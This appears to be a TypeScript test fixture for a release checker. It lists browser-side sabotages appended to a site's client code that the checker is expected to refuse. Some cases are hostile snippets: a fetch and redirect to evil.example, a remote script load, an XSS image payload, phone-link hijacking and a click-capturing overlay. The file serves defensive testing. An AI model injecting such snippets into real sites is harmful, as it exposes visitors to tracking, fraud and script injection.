import type { StoredRelease } from '@sgc/release-format';
import type { ReleaseChange } from '@sgc/release-format/testing';
import type { ReleaseAttempt } from '../attempt.ts';
import { replacingFile } from '../client-file.ts';

const adding =
  (code: string) =>
  (good: StoredRelease): ReleaseChange =>
    replacingFile(good, good.descriptor.clientEntry, (content) => `${content};${code}`);

const refused = (name: string, code: string): ReleaseAttempt => ({
  name: `in a browser, ${name}`,
  change: adding(code),
  expected: 'refused',
});

/** Whenever the page changes, and once it is there. */
const always = (code: string): string =>
  `const act = () => { ${code} }; act(); new MutationObserver(act).observe(document, { subtree: true, childList: true });`;

/** Releases that are good on the server and bad where only a browser sees it. */
export const browser = [
  refused('a throw at load', "throw new Error('broken')"),
  refused('a throw later', "setTimeout(() => { throw new Error('later') })"),
  refused('an unhandled rejection', "Promise.reject(new Error('left'))"),
  refused('an endless loop at load', 'for (;;);'),
  refused('an endless loop of microtasks', 'const again = () => Promise.resolve().then(again); again()'),
  refused('a line on the console', "console.error('broken')"),
  refused('no header', always("document.querySelector('header')?.remove()")),
  refused('a header that cannot be seen', always("document.querySelector('header').style.opacity = '0'")),
  refused(
    'another phone number',
    always("for (const link of document.querySelectorAll('[href^=\"tel:\"]')) link.href = 'tel:+19005550100'"),
  ),
  refused(
    'a sheet of glass over the page',
    "document.documentElement.append(Object.assign(document.createElement('div'), { style: 'position:fixed;inset:0;z-index:9999' }))",
  ),
  refused(
    'a sheet of glass that takes no clicks',
    "document.documentElement.append(Object.assign(document.createElement('div'), { style: 'position:fixed;inset:0;z-index:9999;pointer-events:none;background:#fff' }))",
  ),
  refused(
    'no forms of others',
    always(
      "for (const form of document.querySelectorAll('form')) if (location.pathname !== '/eco-impact') form.remove()",
    ),
  ),
  refused('a way to another site', "location.href = 'https://evil.example/'"),
  refused('what visitors do, told to another site', "fetch('https://evil.example/')"),
  refused('code from text', "(0, eval)('1')"),
  refused(
    'a script from elsewhere',
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
  ),
  refused('HTML as text', "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')"),
];
